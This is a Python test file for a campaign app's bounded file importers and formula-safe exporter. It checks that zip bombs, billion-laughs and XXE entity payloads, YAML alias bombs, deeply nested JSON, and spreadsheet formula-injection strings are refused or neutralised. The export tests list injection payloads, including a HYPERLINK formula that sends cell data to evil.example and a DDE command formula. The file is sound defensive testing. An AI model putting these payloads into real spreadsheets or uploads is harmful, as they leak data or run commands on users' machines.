"""The bounded readers (campaign.importers.sheets / documents) and the formula-safe writer
(campaign.safe_export) against the hostile files of issue 13 and the largest legitimate ones."""
from __future__ import annotations

import csv
import io
import json
import zipfile

import openpyxl
import pytest

from campaign.importers import ImportFormatError
from campaign.importers.documents import FRAMEWORK_LIMITS, GEOJSON_LIMITS, load_json, load_yaml
from campaign.importers.sheets import CSV_LIMITS, GSO_LIMITS, Limits, SheetNotFound, read_rows, read_sheets, values_limits
from campaign.safe_export import csv_cell, csv_text, xlsx_bytes
from tests.files_helpers import (
    BILLION_LAUGHS,
    SHARED_STRINGS_CT,
    XXE,
    alias_bomb,
    cell,
    deep_json,
    row,
    sheet_xml,
    values_header_row,
    values_xlsx,
    xlsx,
)

OFFICER = values_limits(43)  # the officer's upload for the 43-indicator NTM table
VALUE_ROW = ("W001", "Phường Điện Biên", "A.1", "Tỷ lệ", "số", "10", "12,5", "", "")


def refused(data: bytes, limits: Limits = OFFICER, **kw) -> str:
    with pytest.raises(ImportFormatError) as exc:
        read_rows(data, "gia-tri.xlsx", limits, **kw)
    return exc.value.message


# --------------------------------------------------------------------------- 13.3: stalls

def test_declared_dimension_of_a_whole_sheet_is_refused_before_parsing():
    data = values_xlsx(row(2, VALUE_ROW) + f'<row r="1048576">{cell("A1048576", "x")}</row>',
                       dimension="A1:XFD1048576")
    assert len(data) < 6000  # the probe's 6 KB file
    message = refused(data, sheet="Giá trị")
    assert "dòng" in message and "tối đa" in message and "1048576" in message.replace(".", "").replace(",", "")


def test_one_cell_far_below_without_a_dimension_is_refused_not_padded():
    # no <dimension>: openpyxl would pad ~1M empty rows; the reader stops at its row bound and refuses
    data = values_xlsx(row(2, VALUE_ROW) + f'<row r="1048576">{cell("A1048576", "x")}</row>')
    assert "quá nhiều dòng" in refused(data, sheet="Giá trị")


def test_a_lying_dimension_does_not_hide_rows_beyond_the_bound():
    data = values_xlsx(row(2, VALUE_ROW) + f'<row r="5000">{cell("G5000", "99")}</row>', dimension="A1:I2")
    assert "quá nhiều dòng" in refused(data, sheet="Giá trị")


@pytest.mark.parametrize("dimension", ["A1:XFD150000", None])
def test_150k_rows_with_a_cell_in_column_xfd_are_refused(dimension):
    rows_xml = "".join(f'<row r="{r}">{cell(f"XFD{r}", "x")}</row>' for r in range(2, 150_001))
    message = refused(values_xlsx(rows_xml, dimension=dimension), sheet="Giá trị")
    # honest dimension: refused by its size; none: the parts unpack beyond the officer's budget
    assert "tối đa" in message


def test_a_file_unpacking_far_beyond_its_size_is_refused_from_the_zip_directory():
    filler = "".join(row(r, VALUE_ROW) for r in range(2, 40_000))  # ≈ 18 MB of XML, ≈ 0.3 MB zipped
    data = values_xlsx(filler)
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo("xl/worksheets/sheet1.xml")
    assert info.file_size > OFFICER.max_bytes and len(data) < OFFICER.max_bytes
    assert "giải nén" in refused(data, sheet="Giá trị")


def test_an_extreme_compression_ratio_is_refused():
    padding = " " * (3 * 2**20)  # 3 MiB of spaces deflate ~1000:1
    data = xlsx([("Giá trị", sheet_xml(values_header_row()))], extra={"xl/padding.xml": padding}, level=9)
    assert "nén bất thường" in refused(data, limits=values_limits(5_000), sheet="Giá trị")


def test_a_lied_about_uncompressed_size_fails_the_crc_and_is_refused():
    data = bytearray(values_xlsx(row(2, VALUE_ROW)))
    name = b"xl/worksheets/sheet1.xml"
    real = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(name.decode()).file_size
    # the member's central directory record: declare half its real size (zipfile stops there, the CRC fails)
    at = data.find(b"PK\x01\x02")
    while data[at + 46: at + 46 + len(name)] != name:
        at = data.find(b"PK\x01\x02", at + 4)
    data[at + 24: at + 28] = (real // 2).to_bytes(4, "little")
    assert zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(name.decode()).file_size == real // 2
    assert "Không đọc được tệp .xlsx" in refused(bytes(data), sheet="Giá trị")


def test_one_sheet_listed_many_times_is_refused_before_openpyxl_parses_it_each_time():
    data = xlsx([("Giá trị", sheet_xml(values_header_row()))], listed=[(f"S{i}", 1) for i in range(10)])
    assert "Không đọc được tệp .xlsx" in refused(data)
    many = xlsx([(f"S{i}", sheet_xml("")) for i in range(40)])
    assert "trang tính" in refused(many)


# --------------------------------------------------------------------------- 13.9: XML entities

@pytest.mark.parametrize("prolog", [BILLION_LAUGHS, XXE], ids=["billion-laughs", "xxe"])
def test_entity_payloads_in_a_sheet_are_a_clear_refusal(prolog):
    data = values_xlsx(row(2, ("W001", "", "A.1", "", "", "", "&lol9;" if "lol" in prolog else "&xxe;", "", "")),
                       prolog=prolog)
    assert "Không đọc được tệp .xlsx" in refused(data, sheet="Giá trị")


def test_entity_payload_in_the_shared_strings_is_refused():
    strings = (f'<?xml version="1.0"?>{BILLION_LAUGHS}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
               "<si><t>&lol9;</t></si></sst>")
    data = xlsx([("Giá trị", sheet_xml(values_header_row() + '<row r="2"><c r="A2" t="s"><v>0</v></c></row>'))],
                extra={"xl/sharedStrings.xml": strings}, overrides=SHARED_STRINGS_CT)
    assert "Không đọc được tệp .xlsx" in refused(data, sheet="Giá trị")


# --------------------------------------------------------------------------- ordinary refusals

def test_missing_sheet_and_other_formats():
    with pytest.raises(SheetNotFound):
        read_rows(values_xlsx(""), "x.xlsx", OFFICER, sheet="Khác")
    with pytest.raises(ImportFormatError, match="không được hỗ trợ"):
        read_rows(b"%PDF-1.4", "minh-chung.pdf", OFFICER, formats=("xlsx",))
    assert "rỗng" in refused(b"")


def test_csv_bounds_and_broken_csv():
    ok = read_rows("code;name\n001;Quận Ba Đình\n".encode(), "u.csv", CSV_LIMITS)
    assert ok == [["code", "name"], ["001", "Quận Ba Đình"]]
    small = Limits(max_rows=3, max_cols=4, read_cols=4, max_bytes=10_000)
    with pytest.raises(ImportFormatError, match="quá nhiều dòng"):
        read_rows(b"a\n1\n2\n3\n", "u.csv", small)
    with pytest.raises(ImportFormatError, match="cột"):
        read_rows(b"a,b,c,d,e\n", "u.csv", small)
    with pytest.raises(ImportFormatError, match="quá lớn"):
        read_rows(b"a\n" * 6000, "u.csv", small)
    with pytest.raises(ImportFormatError, match="UTF-8"):
        read_rows(b"\xff\xfe\x00a", "u.csv", small)


def test_xls_is_read_within_its_row_bound(gso_file):
    [(_name, rows)] = read_sheets(gso_file, "gso.xls", GSO_LIMITS)[:1]
    assert len(rows) == 585  # header + 584 communes of Hà Nội
    with pytest.raises(ImportFormatError, match="dòng"):
        read_rows(gso_file, "gso.xls", Limits(max_rows=100, max_cols=64, read_cols=64, max_bytes=2**20))


@pytest.fixture
def gso_file():
    from tests.admin_helpers import gso_bytes

    return gso_bytes()


# --------------------------------------------------------------------------- the largest legitimate files fit

@pytest.mark.slow
def test_largest_legitimate_files_fit_their_bounds():
    """Written as inline strings (larger than Excel's shared strings), so Excel's own files fit too."""
    # the commission's values template for every Hà Nội unit (584 communes + 30 districts) × 43 NTM indicators
    expected = 614 * 43
    body = "".join(row(r, (f"{r // 43:05d}", f"Phường Nguyễn Trung Trực {r // 43}", f"{r % 43 // 10 + 1}.{r % 10}",
                           "Tỷ lệ hộ gia đình được công nhận đạt chuẩn văn hóa", "tỷ lệ % (0–100)", "10", "87,5", "",
                           "Theo báo cáo tổng kết năm của Ủy ban nhân dân phường"))
                   for r in range(2, expected + 2))
    rows = read_rows(values_xlsx(body, dimension=f"A1:I{expected + 1}"), "tat-ca.xlsx", values_limits(expected),
                     sheet="Giá trị")
    assert len(rows) == expected + 1 and rows[-1][6] == "87,5"
    # the national GSO list: 11,362 commune-level units
    header = ("Tỉnh Thành Phố", "Mã TP", "Quận Huyện", "Mã QH", "Phường Xã", "Mã PX", "Cấp", "Tên Tiếng Anh")
    body = row(1, header) + "".join(row(r, ("Tỉnh Thanh Hóa", "38", "Huyện Quảng Xương", f"{r // 20:03d}",
                                            f"Xã Quảng Đông {r}", f"{r:05d}", "Xã", f"Quang Dong {r}"))
                                    for r in range(2, 11_364))
    [(_title, rows)] = read_sheets(xlsx([("Sheet1", sheet_xml(body, "A1:H11363"))]), "gso.xlsx", GSO_LIMITS)
    assert len(rows) == 11_363 and rows[-1][5] == "11363"


# --------------------------------------------------------------------------- 13.7: YAML / JSON

def test_yaml_alias_bomb_is_refused():
    text = alias_bomb()
    assert len(text) < 1200
    with pytest.raises(ImportFormatError, match="bí danh"):
        load_yaml(text, FRAMEWORK_LIMITS)


@pytest.mark.parametrize("text", ["a: " + "[" * 5000 + "]" * 5000, "a:\n" + "".join(" " * i + "- \n" for i in range(1, 200))])
def test_deep_yaml_is_refused_without_recursion_error(text):
    with pytest.raises(ImportFormatError, match="quá sâu"):
        load_yaml(text, FRAMEWORK_LIMITS)


def test_deep_json_is_refused_without_recursion_error():
    with pytest.raises(ImportFormatError, match="quá sâu"):
        load_json(deep_json(100_000), GEOJSON_LIMITS)
    # brackets inside strings do not count
    assert load_json(json.dumps({"a": "[" * 100}), GEOJSON_LIMITS) == {"a": "[" * 100}


def test_documents_hold_only_what_json_can_store():
    assert load_yaml("d: 2019-01-01\n1: one\n", FRAMEWORK_LIMITS) == {"d": "2019-01-01", "1": "one"}
    for text in ("x: .nan\n", "x: !!binary aGVsbG8=\n", "x: !!set {a, b}\n"):
        with pytest.raises(ImportFormatError):
            load_yaml(text, FRAMEWORK_LIMITS)
    with pytest.raises(ImportFormatError):
        load_json('{"x": NaN}', GEOJSON_LIMITS)
    with pytest.raises(ImportFormatError, match="quá lớn"):
        load_yaml("a: " + "x" * (FRAMEWORK_LIMITS.max_bytes + 1), FRAMEWORK_LIMITS)


def test_shipped_templates_load_unchanged():
    import yaml

    from campaign.services.setup.framework_io import TEMPLATE_DIR

    for path in TEMPLATE_DIR.glob("*.yaml"):
        assert load_yaml(path.read_bytes(), FRAMEWORK_LIMITS) == yaml.safe_load(path.read_text(encoding="utf-8"))


# --------------------------------------------------------------------------- 13.4: exports

EVIL = ['=HYPERLINK("http://evil.example/x?"&B2&C2,"Xem minh chứng")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
        "\t=1", "\r=1"]


def test_csv_prefixes_every_formula_start_and_keeps_numbers():
    text = csv_text(["Tên", "Điểm"], [[e, -5] for e in EVIL] + [["Quận Ba Đình", 12.5], [None, 0]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert [r[0] for r in rows[1:]] == ["'" + e for e in EVIL] + ["Quận Ba Đình", ""]
    assert [r[1] for r in rows[1:]] == ["-5"] * len(EVIL) + ["12.5", "0"]
    assert csv_cell("a=b") == "a=b" and csv_cell(-1) == -1


def test_xlsx_writes_formula_looking_text_as_exact_strings():
    data = xlsx_bytes("Kết quả", ["Tên"], [[e] for e in EVIL] + [["chuông\x07"], [3]])
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [ws.cell(row=r, column=1) for r in range(2, len(EVIL) + 4)]
    assert all(c.data_type == "s" for c in cells[:-1]) and cells[-1].value == 3
    assert [c.value for c in cells[: len(EVIL)]] == [e.replace("\r", "\n") for e in EVIL]
    assert cells[len(EVIL)].value == "chuông\ufffd"  # a control character XML cannot hold
